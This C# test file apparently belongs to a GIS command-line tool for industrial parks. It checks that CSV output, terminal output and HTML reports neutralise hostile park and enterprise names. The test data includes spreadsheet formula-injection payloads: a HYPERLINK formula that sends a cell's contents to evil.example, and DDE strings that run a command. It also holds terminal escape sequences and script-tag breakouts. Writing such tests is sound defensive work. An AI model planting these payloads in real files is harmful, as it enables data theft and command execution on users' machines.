using System.Text;
using System.Text.Json;
using ParkGis.Cli.Rendering;

namespace ParkGis.Cli.Tests;

/// <summary>Hostile names: formulas in CSV cells for Excel, control characters on the terminal, markup in the report's JSON.</summary>
public sealed class InjectionTests
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")";
    private const string Dde = "+cmd|' /C calc'!A0";
    private const string AtSum = "@SUM(1+1)*cmd|' /C calc'!A0";

    [Fact]
    public void Csv_formula_injection_in_batch_ids_enterprises_and_industries_is_neutralised_in_every_csv()
    {
        var dataset = CopyOfSample();
        Patch(Path.Combine(dataset, "approvals.geojson"), "\"batch_id\":\"2016-内蒙古-批-111\"", "\"batch_id\":" + JsonSerializer.Serialize(Hyperlink));
        Patch(Path.Combine(dataset, "approvals.geojson"), "\"approval_no\":\"内政土发〔2016〕197号\"", "\"approval_no\":" + JsonSerializer.Serialize(Dde));
        Patch(Path.Combine(dataset, "parcels.geojson"), "\"enterprise\":\"鄂尔多斯市远辰煤化有限公司\"", "\"enterprise\":" + JsonSerializer.Serialize(AtSum));
        Patch(Path.Combine(dataset, "parcels.geojson"), "\"industry\":\"煤化工\"", "\"industry\":\"-1+1\"");
        var output = RepositoryPaths.NewTempFolder();

        var supply = CliRun.Of("supply", dataset, "--as-of", "2026-06-30", "--out", Path.Combine(output, "supply"));
        var intensity = CliRun.Of("intensity", dataset, "--out", Path.Combine(output, "intensity"));

        Assert.True(supply.ExitCode == 1, supply.ToString());
        Assert.True(intensity.ExitCode == 1, intensity.ToString());
        var batches = Cells(Path.Combine(output, "supply", "supply_batches.csv"));
        Assert.Contains("'" + Hyperlink, batches);
        Assert.Contains("'" + Dde, batches);
        var parcels = Cells(Path.Combine(output, "intensity", "intensity_parcels.csv"));
        Assert.Contains("'" + AtSum, parcels);
        Assert.Contains("'-1+1", parcels);
        foreach (var csv in Directory.GetFiles(output, "*.csv", SearchOption.AllDirectories))
        {
            AssertNoFormula(csv);
        }

        // Numbers stay numbers: negative growth rates and the like are not prefixed.
        Assert.DoesNotContain(Directory.GetFiles(output, "*.csv", SearchOption.AllDirectories).SelectMany(Cells),
            c => c.StartsWith('\'') && double.TryParse(c[1..], System.Globalization.NumberStyles.Float, System.Globalization.CultureInfo.InvariantCulture, out _));
    }

    [Fact]
    public void Csv_formula_injection_in_park_names_is_neutralised_in_the_scorecard_and_boundary_points()
    {
        var dataset = HostileDataset.Write("-P1", Dde);
        var output = RepositoryPaths.NewTempFolder();

        var scorecard = CliRun.Of("scorecard", dataset, "--out", Path.Combine(output, "scorecard"));
        var points = CliRun.Of("boundary-points", dataset, "--park", "-P1", "--out", Path.Combine(output, "points"));

        Assert.True(scorecard.ExitCode == 1, scorecard.ToString()); // missing layers are data issues
        Assert.True(points.ExitCode == 0, points.ToString());
        var rows = Cells(Path.Combine(output, "scorecard", "scorecard.csv"));
        Assert.Contains("'" + Dde, rows);
        Assert.Contains("'-P1", rows);
        Assert.Contains("'-P1 " + Dde, Cells(Path.Combine(output, "points", "boundary-points.csv")));
        AssertNoFormula(Path.Combine(output, "scorecard", "scorecard.csv"));
        AssertNoFormula(Path.Combine(output, "points", "boundary-points.csv"));
    }

    [Fact]
    public void Names_with_ESC_2J_colour_codes_CR_BS_BEL_and_bidi_overrides_are_printed_escaped()
    {
        const string hostile = "园区\u001b[2J\u001b[31m红\r\b\a\u202e伪装\u2066\u0085\u007f";
        var dataset = HostileDataset.Write("P1", hostile);
        var output = RepositoryPaths.NewTempFolder() + "\u001b]0;title\u0007";

        var run = CliRun.Of("check", dataset, "--out", output);
        var info = CliRun.Of("info", dataset);
        var json = CliRun.Of("info", dataset, "--format", "json");
        var missing = CliRun.Of("check", dataset + "\u001b[2J\nerror PG0000: fake", "--out", output);

        Assert.True(run.ExitCode == 1, run.ToString());
        foreach (var text in new[] { run.Stdout, run.Stderr, info.Stdout, info.Stderr, json.Stdout, missing.Stderr })
        {
            var unsafeChar = text.FirstOrDefault(c => c != '\n' && TerminalText.IsUnsafe(c));
            Assert.True(unsafeChar == default, $"U+{(int)unsafeChar:X4} printed raw in:\n{text}");
        }

        Assert.Contains("园区\\u001B[2J\\u001B[31m红\\u000D\\u0008\\u0007\\u202E伪装\\u2066\\u0085\\u007F", run.Stdout, StringComparison.Ordinal);
        Assert.Contains("\\u001B]0;title\\u0007", run.Stdout, StringComparison.Ordinal);
        Assert.Equal(hostile, JsonDocument.Parse(File.ReadAllText(Path.Combine(output, "check.json"))).RootElement.GetProperty("parks")[0].GetProperty("name").GetString());
        using var parsed = JsonDocument.Parse(json.Stdout);
        Assert.Equal(4, parsed.RootElement.GetProperty("layers").GetArrayLength());
        Assert.True(missing.ExitCode == 3, missing.ToString());
        Assert.Single(missing.Stderr.Split('\n'), l => l.StartsWith("error ", StringComparison.Ordinal));
        Assert.Contains("\\u001B[2J\\u000Aerror PG0000: fake", missing.Stderr, StringComparison.Ordinal);
    }

    [Fact]
    public void Terminal_text_keeps_Chinese_and_ordinary_unicode_and_escapes_only_control_characters()
    {
        Assert.Equal("鄂尔多斯高新技术产业开发区 ① é 🏭 ×", TerminalText.Escape("鄂尔多斯高新技术产业开发区 ① é 🏭 ×"));
        Assert.Equal("a\\u0009b\\u000Ac\\u001B[0m\\u009B\\u202A\\u2069", TerminalText.Escape("a\tb\nc\u001b[0m\u009b\u202a\u2069"));
    }

    [Fact]
    public void A_park_named_with_a_comment_and_a_script_tag_cannot_break_the_reports_data_block()
    {
        const string hostile = "园区<!--<script></script><script>alert(1)</script>&amp;'\"";
        var dataset = HostileDataset.Write("P1", hostile);
        var output = RepositoryPaths.NewTempFolder();

        var run = CliRun.Of("report", dataset, "--out", output, "--tianditu-key", "k</script><!--");

        Assert.True(run.ExitCode == 1, run.ToString());
        var html = File.ReadAllText(Path.Combine(output, "index.html"));
        const string open = "<script type=\"application/json\" id=\"parkgis-data\">";
        var start = html.IndexOf(open, StringComparison.Ordinal) + open.Length;
        var block = html[start..html.IndexOf("</script>", start, StringComparison.Ordinal)];
        Assert.True(block.IndexOfAny(['<', '>', '&']) < 0, "the data block holds a raw <, > or &");
        using var data = JsonDocument.Parse(block);
        Assert.Equal("k</script><!--", data.RootElement.GetProperty("tianditu_key").GetString());
        var parks = data.RootElement.GetProperty("layers").EnumerateArray().Single(l => l.GetProperty("name").GetString() == "parks");
        // The layer's GeoJSON is in its own element, escaped the same way.
        var layerOpen = "<script type=\"application/json\" id=\"" + parks.GetProperty("script").GetString() + "\">";
        var layerStart = html.IndexOf(layerOpen, StringComparison.Ordinal) + layerOpen.Length;
        var layerBlock = html[layerStart..html.IndexOf("</script>", layerStart, StringComparison.Ordinal)];
        Assert.True(layerBlock.IndexOfAny(['<', '>', '&']) < 0, "the layer block holds a raw <, > or &");
        using var layer = JsonDocument.Parse(layerBlock);
        Assert.Equal(hostile, layer.RootElement.GetProperty("features")[0].GetProperty("properties").GetProperty("name").GetString());
        Assert.Contains("园区", layerBlock, StringComparison.Ordinal); // Chinese stays as characters
    }

    private static void AssertNoFormula(string csv)
    {
        foreach (var cell in Cells(csv))
        {
            Assert.False(ParkGis.IO.Output.SpreadsheetText.StartsLikeFormula(cell), $"{Path.GetFileName(csv)}: a cell Excel would run: {cell}");
        }
    }

    /// <summary>The cells of an RFC 4180 CSV (quoted cells unquoted).</summary>
    internal static List<string> Cells(string path)
    {
        var text = File.ReadAllText(path, Encoding.UTF8).TrimStart('\uFEFF');
        var cells = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c is ',' or '\n')
            {
                cells.Add(cell.ToString().TrimEnd('\r'));
                cell.Clear();
            }
            else
            {
                cell.Append(c);
            }
        }

        return cells;
    }

    private static string CopyOfSample()
    {
        var folder = RepositoryPaths.NewTempFolder();
        Directory.CreateDirectory(folder);
        foreach (var file in Directory.GetFiles(RepositoryPaths.OrdosSample))
        {
            File.Copy(file, Path.Combine(folder, Path.GetFileName(file)));
        }

        return folder;
    }

    private static void Patch(string path, string from, string to)
    {
        var text = File.ReadAllText(path);
        var at = text.IndexOf(from, StringComparison.Ordinal);
        Assert.True(at >= 0, $"{from} not in {path}");
        File.WriteAllText(path, text[..at] + to + text[(at + from.Length)..]);
    }
}
